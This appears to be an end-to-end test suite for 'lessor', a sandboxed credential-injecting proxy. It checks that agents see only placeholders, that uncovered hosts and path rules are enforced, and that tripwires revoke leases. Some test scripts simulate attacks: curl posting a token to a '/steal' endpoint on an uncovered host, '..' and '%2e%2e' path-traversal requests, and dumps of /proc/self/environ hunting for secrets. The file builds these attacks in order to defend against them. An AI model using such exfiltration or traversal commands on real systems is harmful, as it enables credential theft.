/**
 * `lessor run`'s main path, end to end: the built CLI runs real clients (curl, git's settings, a Node
 * client) in a real bubblewrap sandbox whose only way out is lessor's injecting proxy, against a real
 * local HTTPS upstream that records what it receives. The child holds a placeholder; the upstream gets
 * the credential; an echoed credential comes back masked; uncovered hosts, method and path rules, the
 * tripwire, use counts and revocation mid-stream all hold; every request is audited.
 *
 * Nothing leaves the machine: the upstream listens on 127.0.0.1, its names resolve through
 * `[proxy] hosts` (never a real lookup), and `[proxy] allow` opens loopback for this test only. The
 * sandbox's own network namespace has no route out, so the "direct" attempts below go nowhere.
 */
import { spawn, spawnSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import * as https from "node:https";
import type { IncomingHttpHeaders, ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import assert from "node:assert/strict";
import { initHome, openVault } from "../src/config/open-vault.js";
import { LocalCa } from "../src/proxy/ca.js";
import type { AuditRecord } from "../src/base/types.js";
import { BIN } from "./cli-harness.js";

const HAVE_BWRAP = spawnSync("bwrap", ["--unshare-all", "--unshare-user", "--ro-bind", "/", "/", "true"]).status === 0;
const HAVE_CURL = spawnSync("curl", ["--version"]).status === 0;
const SKIP = !HAVE_BWRAP ? "bubblewrap cannot make a sandbox here (apt-get install bubblewrap)" : !HAVE_CURL ? "curl is not installed (apt-get install curl)" : false;

const CANARY = "ghp_" + randomBytes(18).toString("hex"); // 40 characters, shaped like a GitHub token
const OTHER_CANARY = "sk-other-" + randomBytes(16).toString("hex");
const HEADER_CANARY = "hk_" + randomBytes(16).toString("hex");

interface Seen {
  host: string;
  method: string;
  url: string;
  headers: IncomingHttpHeaders;
  /** The request body as it arrived, so far (a request the proxy stopped never ends). */
  body: string;
}

const root = mkdtempSync(join(tmpdir(), "lessor-run-proxy-"));
process.on("exit", () => rmSync(root, { recursive: true, force: true }));
const HOME = join(root, "home");
const PROJECT = join(root, "project");
const LESSOR_HOME = join(HOME, ".lessor");

let port = 0;
let server: https.Server;
const seen: Seen[] = [];
/** Open /slow responses, to see when the proxy cuts one. */
const slow = new Set<ServerResponse>();
let slowClosedAt = 0;

function route(req: import("node:http").IncomingMessage, res: ServerResponse): void {
  const auth = String(req.headers.authorization ?? "");
  const path = (req.url ?? "/").split("?")[0];
  if (path === "/echo") {
    // The credential it received, cut across two writes: the scrubber must hold back a prefix.
    res.writeHead(200, { "content-type": "text/plain" });
    res.write("you sent: " + auth.slice(0, 12));
    setTimeout(() => res.end(auth.slice(12) + "\n"), 20);
  } else if (path === "/sse") {
    res.writeHead(200, { "content-type": "text/event-stream", "cache-control": "no-cache" });
    res.write(`data: first ${auth}\n\n`);
    setTimeout(() => res.end(`data: second ${auth}\n\n`), 30);
  } else if (path === "/slow") {
    res.writeHead(200, { "content-type": "text/plain" });
    slow.add(res);
    const t = setInterval(() => res.write("tick\n"), 20);
    res.on("close", () => {
      clearInterval(t);
      slow.delete(res);
      slowClosedAt = Date.now();
    });
    setTimeout(() => res.end(), 15_000).unref();
  } else {
    res.writeHead(200, { "content-type": "application/json" });
    res.end(JSON.stringify({ ok: true, path: req.url }));
  }
}

const CONFIG = (extra = ""): string => `
[proxy]
ports = [PORT]
allow = ["127.0.0.1"]
hosts = { "api.test.example" = "127.0.0.1", "other.test.example" = "127.0.0.1" }
upstream_ca = "${join(root, "upstream-ca.pem")}"
${extra}
`;

const POLICY = `
[[rule]]
name = "github"
effect = "allow"
agents = ["claude", "tripper", "watcher", "counter"]
secrets = ["github-token"]
domains = ["api.test.example"]

[[rule]]
name = "github-limited"
effect = "allow"
agents = ["limited"]
secrets = ["github-token"]
domains = ["api.test.example"]
methods = ["GET"]
paths = ["/repos/"]

[[rule]]
name = "github-counted"
effect = "allow"
agents = ["counted"]
secrets = ["github-token"]
domains = ["api.test.example"]
max_uses = 3

[[rule]]
name = "other"
effect = "allow"
agents = ["tripper", "claude"]
secrets = ["other-key", "header-key"]
domains = ["other.test.example"]
`;

/** Writes lessor.toml's [proxy] table (the init's own settings stay). */
function setProxyConfig(extra = ""): void {
  const base = readFileSync(join(root, "lessor.toml.init"), "utf8");
  writeFileSync(join(LESSOR_HOME, "lessor.toml"), base + CONFIG(extra).replace("PORT", String(port)), { mode: 0o600 });
}

interface Ran {
  code: number | null;
  stdout: string;
  stderr: string;
}

/** `lessor run --agent AGENT -- sh -c SCRIPT` from the project directory, as the owner would. */
function lessorRun(agent: string, script: string, env: Record<string, string> = {}, extraArgs: string[] = []): Promise<Ran> & { child: ReturnType<typeof spawn> } {
  const child = spawn(process.execPath, ["--", BIN, "run", "--agent", agent, ...extraArgs, "--", "/bin/sh", "-c", script], {
    cwd: PROJECT,
    env: { PATH: "/usr/bin:/bin", HOME, LESSOR_HOME, NO_COLOR: "1", GITHUB_TOKEN: "$S:github-token", PORT: String(port), ...env },
    stdio: ["ignore", "pipe", "pipe"],
  });
  const out: Buffer[] = [];
  const err: Buffer[] = [];
  child.stdout!.on("data", (d: Buffer) => out.push(d));
  child.stderr!.on("data", (d: Buffer) => err.push(d));
  const timer = setTimeout(() => child.kill("SIGKILL"), 60_000);
  const p = new Promise<Ran>((resolve) =>
    child.on("close", (code) => {
      clearTimeout(timer);
      resolve({ code, stdout: Buffer.concat(out).toString("utf8"), stderr: Buffer.concat(err).toString("utf8") });
    }),
  ) as Promise<Ran> & { child: ReturnType<typeof spawn> };
  p.child = child;
  return p;
}

/** The audit trail, read through the vault (as `lessor audit query` does). */
async function audit(): Promise<AuditRecord[]> {
  const vault = await openVault({ home: LESSOR_HOME, env: { LESSOR_HOME } });
  try {
    return await vault.admin().auditQuery({ limit: 10_000 });
  } finally {
    await vault.close();
  }
}

/** An audit row's detail (stored as JSON text). */
function det(e: AuditRecord): Record<string, unknown> {
  return e.detail === null ? {} : (JSON.parse(e.detail) as Record<string, unknown>);
}

function leaked(where: string, text: string): void {
  for (const c of [CANARY, OTHER_CANARY, HEADER_CANARY]) assert.ok(!text.includes(c), `a credential appears in ${where}`);
}

describe("lessor run through the injecting proxy", { skip: SKIP }, () => {
  before(async () => {
    mkdirSync(PROJECT, { recursive: true });
    mkdirSync(HOME, { recursive: true });
    const ca = LocalCa.create({ permitted: ["api.test.example", "other.test.example"] });
    writeFileSync(join(root, "upstream-ca.pem"), ca.certPem);
    server = https.createServer({ SNICallback: ca.sniCallback, secureContext: ca.secureContextFor("api.test.example") }, (req, res) => {
      const got: Seen = { host: String(req.headers.host ?? ""), method: req.method!, url: req.url!, headers: req.headers, body: "" };
      seen.push(got);
      req.on("data", (d: Buffer) => (got.body += d.toString("latin1")));
      req.on("error", () => {});
      req.on("end", () => route(req, res));
    });
    await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
    port = (server.address() as AddressInfo).port;
    await initHome({ home: LESSOR_HOME, env: { LESSOR_HOME } });
    writeFileSync(join(root, "lessor.toml.init"), readFileSync(join(LESSOR_HOME, "lessor.toml"), "utf8"));
    writeFileSync(join(LESSOR_HOME, "policy.toml"), POLICY, { mode: 0o600 });
    setProxyConfig('\n[[proxy.inject]]\nsecret = "header-key"\nmode = "header"\nheader = "X-Api-Key"\n');
    const vault = await openVault({ home: LESSOR_HOME, env: { LESSOR_HOME } });
    try {
      await vault.admin().storeSecret({ name: "github-token", value: CANARY, kind: "pat" });
      await vault.admin().storeSecret({ name: "other-key", value: OTHER_CANARY });
      await vault.admin().storeSecret({ name: "header-key", value: HEADER_CANARY });
    } finally {
      await vault.close();
    }
  });
  after(async () => {
    for (const r of slow) r.destroy();
    server?.closeAllConnections();
    await new Promise<void>((r) => server?.close(() => r()));
  });

  test("curl inside the sandbox: the child holds a placeholder, the upstream gets the credential, the echo comes back masked (chunked and SSE), and the request is audited", async () => {
    const before = seen.length;
    const r = await lessorRun(
      "claude",
      [
        'printf "ENV:%s\\n" "$GITHUB_TOKEN"',
        'curl -sS --fail-with-body -H "Authorization: Bearer $GITHUB_TOKEN" "https://api.test.example:$PORT/echo" > echo.out',
        'curl -sS -N --fail-with-body -H "Authorization: Bearer $GITHUB_TOKEN" "https://api.test.example:$PORT/sse" > sse.out',
        "env > env.out; cat /proc/self/environ > environ.out 2>&1; ls -la /run/lessor > run-dir.out 2>&1",
        "cat /run/lessor/* >> run-dir.out 2>&1; true",
      ].join("\n"),
    );
    assert.equal(r.code, 0, r.stderr);
    const placeholder = /ENV:(\S+)/.exec(r.stdout)?.[1] ?? "";
    assert.match(placeholder, /^ghp_[0-9A-Za-z]+$/, "the placeholder keeps the token's public prefix");
    assert.equal(placeholder.length, CANARY.length, "and its length");
    assert.notEqual(placeholder, CANARY);

    const mine = seen.slice(before).filter((s) => s.host.startsWith("api.test.example"));
    assert.equal(mine.length, 2);
    for (const s of mine) assert.equal(s.headers.authorization, `Bearer ${CANARY}`, "the upstream received the real credential");
    // What the child received (written to files, so the run's output mask plays no part): the placeholder.
    assert.equal(readFileSync(join(PROJECT, "echo.out"), "utf8"), `you sent: Bearer ${placeholder}\n`);
    assert.equal(readFileSync(join(PROJECT, "sse.out"), "utf8"), `data: first Bearer ${placeholder}\n\ndata: second Bearer ${placeholder}\n\n`);
    for (const f of ["echo.out", "sse.out", "env.out", "environ.out", "run-dir.out"]) leaked(f, readFileSync(join(PROJECT, f), "utf8"));
    leaked("stdout", r.stdout);
    leaked("stderr", r.stderr);
    const env = readFileSync(join(PROJECT, "env.out"), "utf8");
    assert.match(env, /^HTTPS_PROXY=http:\/\/127\.0\.0\.1:3128$/m);
    assert.match(env, /^SSL_CERT_FILE=\/run\/lessor\/ca-bundle\.pem$/m);
    assert.match(env, /^NODE_EXTRA_CA_CERTS=\/run\/lessor\/ca\.pem$/m);
    assert.match(env, /^GIT_CONFIG_KEY_0=http\.proxy$/m);

    const events = (await audit()).filter((e) => e.type === "proxy_request" && e.agent === "claude");
    const ok = events.filter((e) => e.outcome === "ok");
    assert.equal(ok.length, 2, JSON.stringify(events));
    const echo = ok.find((e) => det(e)["path"] === "/echo")!;
    assert.equal(echo.domain, "api.test.example");
    assert.equal(det(echo)["status"], 200);
    assert.equal(det(echo)["method"], "GET");
    assert.ok(Number(det(echo)["bytes_in"]) > 0);
    for (const e of await audit()) leaked("the audit trail", JSON.stringify(e));
  });

  test("strict egress: an uncovered host is refused at CONNECT with a problem document, and the child cannot reach the upstream around the proxy (DNS, direct connect)", async () => {
    const before = seen.length;
    const r = await lessorRun(
      "watcher",
      [
        'curl -sS -o uncovered.out -w "%{http_code}" -H "Authorization: Bearer $GITHUB_TOKEN" "https://other.test.example:$PORT/" ; echo " uncovered-rc=$?"',
        'curl -sS --noproxy "*" -o /dev/null "https://api.test.example:$PORT/" 2>/dev/null; echo "direct-dns-rc=$?"',
        'curl -sS --noproxy "*" --resolve "api.test.example:$PORT:127.0.0.1" -o /dev/null "https://api.test.example:$PORT/" 2>/dev/null; echo "direct-ip-rc=$?"',
      ].join("\n"),
    );
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /uncovered-rc=56/, "curl: CONNECT refused");
    assert.match(r.stdout, /direct-dns-rc=6/, "no DNS in the sandbox");
    assert.match(r.stdout, /direct-ip-rc=7/, "no route to the upstream's address");
    assert.equal(seen.length, before, "the upstream saw nothing");
  });

  test("method and path rules hold per request, including .. and %2e tricks; refused requests never reach the upstream", async () => {
    const before = seen.length;
    const c = (args: string) => `curl -sS -o /dev/null -w "%{http_code}\\n" -H "Authorization: Bearer $GITHUB_TOKEN" ${args}`;
    const r = await lessorRun(
      "limited",
      [
        c('"https://api.test.example:$PORT/repos/acme/app"'),
        c('-X POST "https://api.test.example:$PORT/repos/acme/app"'),
        c('"https://api.test.example:$PORT/admin"'),
        c('--path-as-is "https://api.test.example:$PORT/repos/../admin"'),
        c('--path-as-is "https://api.test.example:$PORT/repos/%2e%2e/admin"'),
        c('--path-as-is "https://api.test.example:$PORT/repos/%2E%2E%2Fadmin"'),
      ].join("\n"),
    );
    assert.equal(r.code, 0, r.stderr);
    assert.deepEqual(r.stdout.trim().split("\n"), ["200", "403", "403", "403", "403", "403"]);
    const mine = seen.slice(before);
    assert.deepEqual(
      mine.map((s) => `${s.method} ${s.url}`),
      ["GET /repos/acme/app"],
    );
  });

  test("use counts: each injected request is one use; the lease's last use is the last request that gets the credential", async () => {
    const before = seen.length;
    const c = `curl -sS -o /dev/null -w "%{http_code}\\n" -H "Authorization: Bearer $GITHUB_TOKEN" "https://api.test.example:$PORT/n"`;
    const r = await lessorRun("counted", [c, c, c].join("\n"));
    assert.equal(r.code, 0, r.stderr);
    // max_uses = 3: one use shapes the placeholder when the run starts, then two requests.
    assert.deepEqual(r.stdout.trim().split("\n"), ["200", "200", "403"]);
    assert.equal(seen.slice(before).length, 2);
  });

  test("tripwire: the credential sent to a host its lease does not cover is refused, the lease revoked, an alarm audited", async () => {
    const before = seen.length;
    const r = await lessorRun(
      "tripper",
      [
        // other.test.example is intercepted (other-key covers it), so the proxy sees what is sent there.
        'curl -sS -o trip.out -w "%{http_code}\\n" -H "Authorization: Bearer $GITHUB_TOKEN" "https://other.test.example:$PORT/steal"',
        'curl -sS -o /dev/null -w "%{http_code}\\n" -H "Authorization: Bearer $GITHUB_TOKEN" "https://api.test.example:$PORT/after"',
      ].join("\n"),
      { OTHER_KEY: "$S:other-key" },
    );
    assert.equal(r.code, 0, r.stderr);
    assert.deepEqual(r.stdout.trim().split("\n"), ["403", "403"]);
    assert.match(readFileSync(join(PROJECT, "trip.out"), "utf8"), /"reason":"tripwire"/);
    assert.match(r.stderr, /ALARM: the agent sent the credential of github-token to other\.test\.example/);
    assert.equal(seen.length, before, "neither request reached the upstream");
    const events = await audit();
    const alarm = events.find((e) => e.type === "proxy_request" && e.agent === "tripper" && e.outcome === "denied");
    assert.ok(alarm, "a proxy_request alarm event");
    assert.equal(det(alarm)["alarm"], true);
    assert.match(String(alarm.reason), /^tripwire: /);
    assert.ok(events.some((e) => e.type === "lease_revoked" && e.agent === "tripper" && /^tripwire/.test(String(e.reason))));
  });

  test("tripwire in a body: curl posting the placeholder to a host its lease does not cover is stopped, the lease revoked", async () => {
    const before = seen.length;
    const r = await lessorRun(
      "tripper",
      [
        `curl -sS -o trip-body.out -w "%{http_code}\\n" -H "Content-Type: application/json" --data-binary "{\\"note\\":\\"hi\\",\\"t\\":\\"$GITHUB_TOKEN\\"}" "https://other.test.example:$PORT/steal"`,
        'curl -sS -o /dev/null -w "%{http_code}\\n" -H "Authorization: Bearer $GITHUB_TOKEN" "https://api.test.example:$PORT/after"',
      ].join("\n"),
      { OTHER_KEY: "$S:other-key" },
    );
    assert.equal(r.code, 0, r.stderr);
    assert.deepEqual(r.stdout.trim().split("\n"), ["403", "403"]);
    assert.match(readFileSync(join(PROJECT, "trip-body.out"), "utf8"), /"reason":"tripwire"/);
    assert.match(r.stderr, /ALARM: the agent sent the credential of github-token in the request body to other\.test\.example/);
    // The upstream may have seen the request start, never the placeholder: the body stopped before it.
    for (const s of seen.slice(before)) assert.ok(!s.body.includes("ghp_"), "no placeholder reached the upstream");
    assert.ok(!seen.slice(before).some((s) => s.url.startsWith("/after")), "the revoked lease served nothing after");
    const events = await audit();
    assert.ok(events.some((e) => e.type === "lease_revoked" && e.agent === "tripper" && /^tripwire/.test(String(e.reason))));
  });

  test("a [[proxy.inject]] header rule adds the credential unasked: the agent never handles it", async () => {
    const before = seen.length;
    const r = await lessorRun("claude", 'curl -sS -o /dev/null -w "%{http_code}\\n" "https://other.test.example:$PORT/h"', { HEADER_KEY: "$S:header-key" });
    assert.equal(r.code, 0, r.stderr);
    assert.equal(r.stdout.trim(), "200");
    const s = seen.slice(before);
    assert.equal(s.length, 1);
    assert.equal(s[0]!.headers["x-api-key"], HEADER_CANARY);
  });

  test("revocation mid-stream: the open response is cut promptly and the next request is refused", async () => {
    slowClosedAt = 0;
    const run = lessorRun(
      "watcher",
      [
        'curl -sS -N -H "Authorization: Bearer $GITHUB_TOKEN" "https://api.test.example:$PORT/slow" > slow.out 2>/dev/null; echo "slow-rc=$?"',
        'curl -sS -o /dev/null -w "after:%{http_code}\\n" -H "Authorization: Bearer $GITHUB_TOKEN" "https://api.test.example:$PORT/after"',
      ].join("\n"),
    );
    // Wait until the stream is flowing.
    for (let i = 0; i < 300 && slow.size === 0; i++) await new Promise((r) => setTimeout(r, 20));
    assert.equal(slow.size, 1, "the stream started");
    await new Promise((r) => setTimeout(r, 100));
    const revoke = spawnSync(process.execPath, ["--", BIN, "revoke", "--agent", "watcher", "--reason", "test"], { env: { PATH: "/usr/bin:/bin", HOME, LESSOR_HOME }, encoding: "utf8" });
    const revokedAt = Date.now();
    assert.equal(revoke.status, 0, revoke.stderr);
    const r = await run;
    assert.ok(slowClosedAt > 0, "the upstream stream was closed");
    const cutMs = slowClosedAt - revokedAt;
    console.log(`# revocation → stream cut: ${cutMs} ms`);
    assert.ok(cutMs < 1000, `the stream was cut ${cutMs} ms after the revocation`);
    assert.doesNotMatch(r.stdout, /slow-rc=0/, "curl saw its stream cut");
    assert.match(r.stdout, /after:403/);
  });

  test("a [[proxy.inject]] rule with body = true: a placeholder in a request body reaches the upstream as the credential; a compressed body is refused (415)", async () => {
    const HEADER_RULE = '\n[[proxy.inject]]\nsecret = "header-key"\nmode = "header"\nheader = "X-Api-Key"\n';
    setProxyConfig(HEADER_RULE + '\n[[proxy.inject]]\nsecret = "github-token"\nbody = true\n');
    const bodies: { url: string; body: string }[] = [];
    const capture = (req: import("node:http").IncomingMessage): void => {
      const chunks: Buffer[] = [];
      req.on("data", (d: Buffer) => chunks.push(d));
      req.on("end", () => bodies.push({ url: req.url ?? "", body: Buffer.concat(chunks).toString("utf8") }));
    };
    server.on("request", capture);
    try {
      const r = await lessorRun(
        "claude",
        [
          'curl -sS -o form.out -w "form:%{http_code}\\n" --data "token=$GITHUB_TOKEN&n=1" "https://api.test.example:$PORT/form"',
          'curl -sS -o gz.out -w "gz:%{http_code}\\n" -H "Content-Encoding: gzip" --data "token=$GITHUB_TOKEN" "https://api.test.example:$PORT/gz"',
          'printf "ENV:%s\\n" "$GITHUB_TOKEN"',
        ].join("\n"),
      );
      assert.equal(r.code, 0, r.stderr);
      assert.match(r.stdout, /form:200/);
      assert.match(r.stdout, /gz:415/);
      const placeholder = /ENV:(\S+)/.exec(r.stdout)?.[1] ?? "";
      assert.notEqual(placeholder, CANARY);
      const form = bodies.filter((b) => b.url === "/form");
      assert.equal(form.length, 1);
      assert.equal(form[0]!.body, `token=${CANARY}&n=1`, "the upstream received the credential in the body");
      assert.equal(bodies.filter((b) => b.url === "/gz").length, 0, "the compressed body never reached the upstream");
      assert.match(readFileSync(join(PROJECT, "gz.out"), "utf8"), /"reason":"request_encoding"/);
      leaked("stdout", r.stdout);
      leaked("stderr", r.stderr);
    } finally {
      server.off("request", capture);
      setProxyConfig(HEADER_RULE);
    }
  });
});
